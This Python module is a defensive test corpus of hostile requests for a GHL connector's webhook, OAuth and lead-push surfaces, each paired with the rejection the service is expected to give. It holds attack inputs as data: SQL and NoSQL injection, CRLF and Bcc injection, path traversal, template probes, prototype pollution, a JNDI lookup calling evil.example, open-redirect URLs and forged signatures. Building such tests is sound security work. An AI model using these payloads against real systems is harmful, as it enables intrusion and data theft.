"""Hostile input corpus: what an attacker (or a broken caller) can send to the three public surfaces.

Each case builds one request from a `HostileContext` (signing key, state key, installed locations) and
names what a safe answer is. `test_hostile_input.py` runs them all through the local runtime and also
checks that nothing was written or queued.

Surfaces:
- `webhook`: POST /webhooks/ghl through the local gateway (signed with the GHL sandbox's key unless the
  case is about signatures);
- `oauth`: GET /oauth/install and /oauth/callback through the gateway;
- `lead_push`: boto3 `lambda.invoke` on the lead-push alias through the local Invoke API.

Expectations: `status` = allowed HTTP statuses (webhook/oauth); `redirect_safe` = a 302 whose Location
points only at the GHL marketplace with the configured redirect URI (install ignores foreign URLs);
lead push: `request_error` (whole request refused) or `item_error` with the error code per lead.
"""

from __future__ import annotations

import base64
import json
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

from cryptography.hazmat.primitives.asymmetric import ed25519

EVIL = "https://evil.example"


@dataclass
class HostileContext:
    sign: Callable[[bytes], dict[str, str]]  # the GHL sandbox's webhook signer (the trusted key)
    state_key: str  # the connector's OAuth state signing key (from the app secret)
    client_id: str
    location_a: str  # installed, linked to account_a
    account_a: str
    location_b: str  # installed, linked to account_b
    account_b: str
    location_unconnected: str  # exists in GHL, never installed
    fresh_code: Callable[[], str]  # an auth code already used once (prepared by the test)
    replayed_state: Callable[[], tuple[str, str]]  # (an unused code, a state that completed an install)


@dataclass(frozen=True)
class WebhookRequest:
    body: bytes
    headers: dict[str, str]
    method: str = "POST"


@dataclass(frozen=True)
class OAuthRequest:
    path: str  # /oauth/install or /oauth/callback
    params: dict[str, str]
    headers: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class LeadPushRequest:
    payload: Any  # JSON-serialisable; `raw` wins when set
    raw: bytes | None = None


@dataclass(frozen=True)
class Case:
    id: str
    surface: str  # webhook | oauth | lead_push
    build: Callable[[HostileContext], WebhookRequest | OAuthRequest | LeadPushRequest]
    status: frozenset[int] = frozenset()
    redirect_safe: bool = False
    lead_error: str | None = None  # "request" or an ErrorCode value expected on every item


# ------------------------------------------------------------------------------------------ webhook
def _now_iso(offset_s: float = 0.0) -> str:
    return time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(time.time() + offset_s))


def _event(ctx: HostileContext, **overrides: Any) -> dict[str, Any]:
    event: dict[str, Any] = {
        "type": "ContactUpdate",
        "locationId": ctx.location_a,
        "id": "cHostile0000000000001",
        "webhookId": f"hostile-{time.monotonic_ns()}",
        "timestamp": _now_iso(),
    }
    for key, value in overrides.items():
        if value is _DROP:
            event.pop(key, None)
        else:
            event[key] = value
    return event


_DROP = object()


def _signed(body: bytes, ctx: HostileContext, content_type: str = "application/json") -> WebhookRequest:
    return WebhookRequest(body, {"Content-Type": content_type, **ctx.sign(body)})


def signed_event(**overrides: Any) -> Callable[[HostileContext], WebhookRequest]:
    def build(ctx: HostileContext) -> WebhookRequest:
        return _signed(json.dumps(_event(ctx, **overrides)).encode(), ctx)

    return build


def signed_raw(
    body: bytes, content_type: str = "application/json"
) -> Callable[[HostileContext], WebhookRequest]:
    return lambda ctx: _signed(body, ctx, content_type)


def _body(ctx: HostileContext) -> bytes:
    return json.dumps(_event(ctx)).encode()


def _foreign_key_signature(body: bytes) -> str:
    return base64.b64encode(ed25519.Ed25519PrivateKey.generate().sign(body)).decode()


def _foreign_signed(body: bytes) -> WebhookRequest:
    return WebhookRequest(
        body, {"Content-Type": "application/json", "X-GHL-Signature": _foreign_key_signature(body)}
    )


def _tampered_after_signing(ctx: HostileContext) -> WebhookRequest:
    """Signed for location A, then re-addressed to B."""
    body = _body(ctx)
    tampered = body.replace(ctx.location_a.encode(), ctx.location_b.encode())
    return WebhookRequest(tampered, {"Content-Type": "application/json", **ctx.sign(body)})


WEBHOOK_CASES = [
    Case(
        "wh-unsigned",
        "webhook",
        lambda c: WebhookRequest(_body(c), {"Content-Type": "application/json"}),
        frozenset({401}),
    ),
    Case(
        "wh-empty-signature",
        "webhook",
        lambda c: WebhookRequest(_body(c), {"Content-Type": "application/json", "X-GHL-Signature": ""}),
        frozenset({401}),
    ),
    Case(
        "wh-garbage-signature",
        "webhook",
        lambda c: WebhookRequest(
            _body(c), {"Content-Type": "application/json", "X-GHL-Signature": "%%not-b64%%"}
        ),
        frozenset({401}),
    ),
    Case(
        "wh-foreign-key",
        "webhook",
        lambda c: _foreign_signed(_body(c)),
        frozenset({401}),
    ),
    Case(
        "wh-signature-of-other-body",
        "webhook",
        lambda c: WebhookRequest(
            _body(c),
            {
                "Content-Type": "application/json",
                **c.sign(json.dumps(_event(c, locationId=c.location_b)).encode()),
            },
        ),
        frozenset({401}),
    ),
    Case(
        "wh-body-tampered-after-signing",
        "webhook",
        _tampered_after_signing,
        frozenset({401}),
    ),
    Case(
        "wh-legacy-rsa-only",
        "webhook",
        lambda c: WebhookRequest(
            _body(c),
            {"Content-Type": "application/json", "X-WH-Signature": base64.b64encode(b"x" * 256).decode()},
        ),
        frozenset({401}),
    ),
    Case("wh-empty-body", "webhook", signed_raw(b""), frozenset({400, 401})),
    Case("wh-not-json", "webhook", signed_raw(b"type=ContactUpdate&locationId=x"), frozenset({400})),
    Case("wh-json-array", "webhook", signed_raw(b'[{"type":"ContactUpdate"}]'), frozenset({400})),
    Case("wh-json-null", "webhook", signed_raw(b"null"), frozenset({400})),
    Case(
        "wh-json-nan", "webhook", signed_raw(b'{"type":"ContactUpdate","locationId":NaN}'), frozenset({400})
    ),
    Case("wh-deep-nesting", "webhook", signed_raw(b"[" * 60000 + b"]" * 60000), frozenset({400, 413})),
    Case(
        "wh-invalid-utf8",
        "webhook",
        signed_raw(b'{"type":"ContactUpdate","id":"\xff\xfe"}'),
        frozenset({400}),
    ),
    Case(
        "wh-oversized-body",
        "webhook",
        lambda c: _signed(json.dumps(_event(c, padding="A" * 300_000)).encode(), c),
        frozenset({413}),
    ),
    Case("wh-wrong-content-type", "webhook", lambda c: _signed(_body(c), c, "text/plain"), frozenset({415})),
    Case("wh-missing-type", "webhook", signed_event(type=_DROP), frozenset({422})),
    Case("wh-type-too-long", "webhook", signed_event(type="Contact" * 20), frozenset({422})),
    Case("wh-foreign-app", "webhook", signed_event(appId="someoneelsesapp"), frozenset({403})),
    Case("wh-stale-timestamp", "webhook", signed_event(timestamp=_now_iso(-49 * 3600)), frozenset({400})),
    Case("wh-future-timestamp", "webhook", signed_event(timestamp=_now_iso(3600)), frozenset({400})),
    Case("wh-bad-timestamp", "webhook", signed_event(timestamp="yesterday-ish 10am"), frozenset({400})),
    Case("wh-missing-location", "webhook", signed_event(locationId=_DROP), frozenset({422})),
    Case(
        "wh-location-path-traversal",
        "webhook",
        signed_event(locationId="../../connections/x"),
        frozenset({422}),
    ),
    Case("wh-location-sql", "webhook", signed_event(locationId="' OR '1'='1' --"), frozenset({422})),
    Case("wh-location-nosql-object", "webhook", signed_event(locationId={"$ne": None}), frozenset({422})),
    Case("wh-location-crlf", "webhook", signed_event(locationId="loc\r\nX-Injected: 1"), frozenset({422})),
    Case("wh-location-rtl-override", "webhook", signed_event(locationId="loc\u202egpj"), frozenset({422})),
    Case("wh-location-zero-width", "webhook", signed_event(locationId="loc\u200bA"), frozenset({422})),
    Case("wh-location-nul", "webhook", signed_event(locationId="loc\x00A"), frozenset({422})),
    Case(
        "wh-location-lone-surrogate",
        "webhook",
        lambda c: _signed(json.dumps(_event(c)).replace(c.location_a, "loc\\ud800").encode(), c),
        frozenset({400, 422}),
    ),
    Case("wh-location-emoji", "webhook", signed_event(locationId="loc\U0001f600"), frozenset({422})),
    Case("wh-contact-id-template", "webhook", signed_event(id="{{7*7}}${7*7}"), frozenset({422})),
    Case("wh-contact-id-missing", "webhook", signed_event(id=_DROP), frozenset({422})),
    Case("wh-webhook-id-number", "webhook", signed_event(webhookId=12345), frozenset({422})),
    Case("wh-webhook-id-empty", "webhook", signed_event(webhookId="   "), frozenset({422})),
    Case("wh-webhook-id-too-long", "webhook", signed_event(webhookId="w" * 300), frozenset({422})),
    Case(
        "wh-task-contact-injection",
        "webhook",
        signed_event(type="TaskCreate", contactId="c1; DROP TABLE tasks"),
        frozenset({422}),
    ),
    Case(
        "wh-appointment-without-id",
        "webhook",
        signed_event(type="AppointmentCreate", id=_DROP, appointment={"title": "x"}),
        frozenset({422}),
    ),
    Case(
        "wh-company-id-injection",
        "webhook",
        signed_event(type="INSTALL", locationId=_DROP, companyId="c$where=1"),
        frozenset({422}),
    ),
]


# -------------------------------------------------------------------------------------------- oauth
def _state(
    ctx: HostileContext, *, key: str | None = None, clock_offset: float = 0.0, account: str = "a"
) -> str:
    from rankr_ghl.connections.state import StateSigner

    return StateSigner(key or ctx.state_key, clock=lambda: time.time() + clock_offset).sign(account)


def _used_code(ctx: HostileContext) -> str:
    return ctx.fresh_code()


def _replayed_state_callback(ctx: HostileContext) -> OAuthRequest:
    code, state = ctx.replayed_state()
    return OAuthRequest("/oauth/callback", {"code": code, "state": state})


def callback(**params: Any) -> Callable[[HostileContext], OAuthRequest]:
    def build(ctx: HostileContext) -> OAuthRequest:
        resolved = {k: (v(ctx) if callable(v) else v) for k, v in params.items()}
        return OAuthRequest("/oauth/callback", resolved)

    return build


def install(headers: dict[str, str] | None = None, **params: str) -> Callable[[HostileContext], OAuthRequest]:
    return lambda ctx: OAuthRequest("/oauth/install", dict(params), dict(headers or {}))


# Without a link minted by the control API, every install request is refused: 400, no redirect.
_REDIRECT_OK = frozenset({400})

OAUTH_CASES = [
    Case("oauth-forged-state", "oauth", callback(code="c0de", state="eyJ2IjoxfQ.Zm9yZ2Vk"), frozenset({400})),
    Case(
        "oauth-state-other-key",
        "oauth",
        callback(code="c0de", state=lambda c: _state(c, key="k" * 40)),
        frozenset({400}),
    ),
    Case(
        "oauth-expired-state",
        "oauth",
        callback(code="c0de", state=lambda c: _state(c, clock_offset=-7200)),
        frozenset({400, 410}),
    ),
    Case("oauth-state-no-dot", "oauth", callback(code="c0de", state="justonepart"), frozenset({400})),
    Case("oauth-state-two-dots", "oauth", callback(code="c0de", state="a.b.c"), frozenset({400})),
    Case("oauth-state-is-url", "oauth", callback(code="c0de", state=EVIL + "/cb"), frozenset({400})),
    Case("oauth-state-oversized", "oauth", callback(code="c0de", state="s" * 5000), frozenset({400, 422})),
    Case(
        "oauth-code-oversized",
        "oauth",
        callback(code="c" * 5000, state=_state),
        frozenset({400, 422}),
    ),
    Case(
        "oauth-bad-code",
        "oauth",
        callback(code="sbx-code-doesnotexist", state=_state),
        frozenset({400, 401, 403}),
    ),
    Case(
        "oauth-replayed-code",
        "oauth",
        callback(code=_used_code, state=_state),
        frozenset({400, 401, 403, 409}),
    ),
    # A callback URL replayed with a fresh code (browser history, a leaked link): the state is single-use.
    Case("oauth-replayed-state", "oauth", _replayed_state_callback, frozenset({400})),
    Case("oauth-no-code", "oauth", callback(state=_state), frozenset({400})),
    Case(
        "oauth-denied",
        "oauth",
        callback(error="access_denied", state=_state),
        frozenset({400, 403}),
    ),
    Case(
        "oauth-code-crlf",
        "oauth",
        callback(code="abc\r\nSet-Cookie: session=evil", state=_state),
        frozenset({400, 401, 403}),
    ),
    Case(
        "oauth-callback-redirect-uri-param",
        "oauth",
        callback(code="sbx-code-nope", state=_state, redirect_uri=EVIL + "/steal"),
        frozenset({400, 401, 403}),
    ),
    Case(
        "oauth-callback-return-url-param",
        "oauth",
        callback(code="sbx-code-nope", state=lambda c: _state(c, account=EVIL), return_url=EVIL, next=EVIL),
        frozenset({400, 401, 403}),
    ),
    Case("oauth-install-account-oversized", "oauth", install(rankr_account="a" * 500), frozenset({400, 422})),
    Case(
        "oauth-install-redirect-uri-param",
        "oauth",
        install(redirect_uri=EVIL + "/cb"),
        _REDIRECT_OK,
        redirect_safe=True,
    ),
    Case(
        "oauth-install-return-url-param",
        "oauth",
        install(return_url=EVIL, next=EVIL, continue_=EVIL),
        _REDIRECT_OK,
        redirect_safe=True,
    ),
    Case(
        "oauth-install-account-is-url",
        "oauth",
        install(rankr_account=EVIL + "/x"),
        _REDIRECT_OK,
        redirect_safe=True,
    ),
    Case(
        "oauth-install-host-header",
        "oauth",
        install(
            headers={"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http"}
        ),
        _REDIRECT_OK,
        redirect_safe=True,
    ),
    Case(
        "oauth-install-account-crlf",
        "oauth",
        install(rankr_account="acct\r\nSet-Cookie: x=1"),
        frozenset({302, 400, 422}),
        redirect_safe=True,
    ),
]


# ---------------------------------------------------------------------------------------- lead push
def lead(**fields: Any) -> Callable[[HostileContext], LeadPushRequest]:
    """One lead for location A (connected, owned by account A) unless the fields say otherwise."""

    def build(ctx: HostileContext) -> LeadPushRequest:
        base: dict[str, Any] = {"leadId": "hostile-lead-1", "locationId": ctx.location_a, "firstName": "H"}
        for key, value in fields.items():
            if value is _DROP:
                base.pop(key, None)
            else:
                base[key] = value(ctx) if callable(value) else value
        return LeadPushRequest(base)

    return build


def payload(value: Any) -> Callable[[HostileContext], LeadPushRequest]:
    return lambda ctx: LeadPushRequest(value(ctx) if callable(value) else value)


REQ = "request"
INVALID = "invalid_lead"

LEAD_PUSH_CASES = [
    Case("lp-payload-array", "lead_push", payload([{"leadId": "x"}]), lead_error=REQ),
    Case("lp-payload-string", "lead_push", payload("DROP TABLE leads"), lead_error=REQ),
    Case("lp-payload-null", "lead_push", payload(None), lead_error=REQ),
    Case("lp-payload-number", "lead_push", payload(42), lead_error=REQ),
    Case(
        "lp-oversized-batch",
        "lead_push",
        payload(lambda c: {"leads": [{"leadId": f"l{i}", "locationId": c.location_a} for i in range(101)]}),
        lead_error=REQ,
    ),
    Case(
        "lp-huge-batch",
        "lead_push",
        payload(lambda c: {"leads": [{"leadId": f"l{i}", "locationId": c.location_a} for i in range(5000)]}),
        lead_error=REQ,
    ),
    Case("lp-leads-not-list", "lead_push", payload({"leads": {"leadId": "x"}}), lead_error=REQ),
    Case("lp-leads-empty", "lead_push", payload({"leads": []}), lead_error=REQ),
    Case(
        "lp-unknown-request-field",
        "lead_push",
        payload({"leads": [{"leadId": "x"}], "$where": "1"}),
        lead_error=REQ,
    ),
    Case(
        "lp-bad-invocation-type",
        "lead_push",
        payload({"leadId": "x", "invocationType": "DryRun"}),
        lead_error=REQ,
    ),
    Case("lp-missing-lead-id", "lead_push", lead(leadId=_DROP), lead_error=INVALID),
    Case("lp-lead-id-int", "lead_push", lead(leadId=12345), lead_error=INVALID),
    Case("lp-lead-id-list", "lead_push", lead(leadId=["a", "b"]), lead_error=INVALID),
    Case("lp-lead-id-sql", "lead_push", lead(leadId="1; DROP TABLE contacts;--"), lead_error=INVALID),
    Case("lp-lead-id-rtl", "lead_push", lead(leadId="lead\u202eexe.txt"), lead_error=INVALID),
    Case("lp-lead-id-zero-width", "lead_push", lead(leadId="lead\u200b1"), lead_error=INVALID),
    Case("lp-lead-id-nul", "lead_push", lead(leadId="lead\x001"), lead_error=INVALID),
    Case("lp-lead-id-surrogate", "lead_push", lead(leadId="lead\ud800x"), lead_error=INVALID),
    Case("lp-lead-id-emoji", "lead_push", lead(leadId="lead\U0001f4a9"), lead_error=INVALID),
    Case("lp-location-sql", "lead_push", lead(locationId="' OR '1'='1"), lead_error=INVALID),
    Case("lp-location-nosql", "lead_push", lead(locationId={"$ne": None}), lead_error=INVALID),
    Case("lp-location-traversal", "lead_push", lead(locationId="../company:x"), lead_error=INVALID),
    Case(
        "lp-account-jndi",
        "lead_push",
        lead(locationId=_DROP, rankrAccountId="${jndi:ldap://evil.example/a}"),
        lead_error=INVALID,
    ),
    Case("lp-no-target", "lead_push", lead(locationId=_DROP), lead_error=INVALID),
    Case("lp-email-nosql", "lead_push", lead(email={"$gt": ""}), lead_error=INVALID),
    Case(
        "lp-email-crlf", "lead_push", lead(email="a@b.example\r\nBcc: victim@c.example"), lead_error=INVALID
    ),
    Case("lp-email-two-ats", "lead_push", lead(email="a@b@c.example"), lead_error=INVALID),
    Case("lp-phone-letters", "lead_push", lead(phone="call-me-maybe"), lead_error=INVALID),
    Case("lp-phone-emoji", "lead_push", lead(phone="+1555\U0001f4de0100"), lead_error=INVALID),
    Case("lp-phone-too-long", "lead_push", lead(phone="+1234567890123456789"), lead_error=INVALID),
    Case("lp-phone-crlf", "lead_push", lead(phone="555-0100\r\nX-Injected: 1"), lead_error=INVALID),
    Case("lp-reserved-tag", "lead_push", lead(tags=["rankr-lead:someone-else"]), lead_error=INVALID),
    Case("lp-too-many-tags", "lead_push", lead(tags=[f"t{i}" for i in range(101)]), lead_error=INVALID),
    Case("lp-tag-not-string", "lead_push", lead(tags=[{"$set": "x"}]), lead_error=INVALID),
    Case("lp-tags-string", "lead_push", lead(tags="a,b"), lead_error=INVALID),
    Case(
        "lp-custom-field-object",
        "lead_push",
        lead(customFields={"x": {"$where": "sleep(1000)"}}),
        lead_error=INVALID,
    ),
    Case("lp-custom-field-key-long", "lead_push", lead(customFields={"k" * 200: "v"}), lead_error=INVALID),
    Case("lp-proto-pollution", "lead_push", lead(__proto__={"admin": True}), lead_error=INVALID),
    Case(
        "lp-constructor-pollution", "lead_push", lead(constructor={"prototype": {"x": 1}}), lead_error=INVALID
    ),
    Case("lp-first-name-oversized", "lead_push", lead(firstName="A" * 10_000), lead_error=INVALID),
    Case("lp-note-empty", "lead_push", lead(note={"body": ""}), lead_error=INVALID),
    Case("lp-task-wrong-type", "lead_push", lead(task="call back"), lead_error=INVALID),
    Case(
        "lp-location-not-connected",
        "lead_push",
        lead(locationId=lambda c: c.location_unconnected, firstName="{{7*7}}${7*7}<%= 7*7 %>"),
        lead_error="location_not_connected",
    ),
    Case(
        "lp-location-of-other-account",
        "lead_push",
        lead(
            rankrAccountId=lambda c: c.account_a,
            locationId=lambda c: c.location_b,
            email="x');DROP--@a.example",
        ),
        lead_error="location_not_connected",
    ),
    Case(
        "lp-unknown-account",
        "lead_push",
        lead(locationId=_DROP, rankrAccountId="acct-nobody-owns"),
        lead_error="unknown_account",
    ),
    Case(
        "lp-batch-all-invalid",
        "lead_push",
        payload(
            lambda c: {
                "leads": [
                    {"leadId": "ok1", "locationId": "bad id"},
                    7,
                    None,
                    "x",
                    {"leadId": "ok2", "locationId": c.location_b, "rankrAccountId": c.account_a},
                ]
            }
        ),
        lead_error="*",
    ),
    Case(
        "lp-request-location-injection",
        "lead_push",
        payload({"leads": [{"leadId": "a1"}], "locationId": "loc\r\n{{x}}"}),
        lead_error=INVALID,
    ),
]

CASES: list[Case] = [*WEBHOOK_CASES, *OAUTH_CASES, *LEAD_PUSH_CASES]
